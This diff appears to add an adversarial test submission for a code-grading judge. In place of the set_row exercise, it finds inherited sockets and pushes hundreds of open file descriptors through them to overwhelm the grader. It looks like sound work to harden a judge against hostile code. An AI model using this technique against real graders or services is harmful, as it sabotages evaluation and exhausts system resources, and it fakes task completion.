@@ -1,0 +1,26 @@
+"""Sends hundreds of open files along with its answer, for the judge to be full of them (F06).
+
+Exercise: 01_arrays/set_row
+Outcome: failed | raised | crashed
+"""
+
+import os
+import socket
+import stat
+import struct
+
+
+def set_row(x, i, row):
+    for number in range(3, 64):
+        try:
+            if not stat.S_ISSOCK(os.fstat(number).st_mode):
+                continue
+            channel = socket.socket(fileno=os.dup(number))
+            files = [os.open("/dev/zero", os.O_RDONLY) for _ in range(100)]
+            rights = struct.pack(f"{len(files)}i", *files)
+            # The first byte of an answer's header, which the answer then lacks nothing but.
+            for _ in range(3):
+                channel.sendmsg([b""], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, rights)])
+        except OSError:
+            continue
+    return x
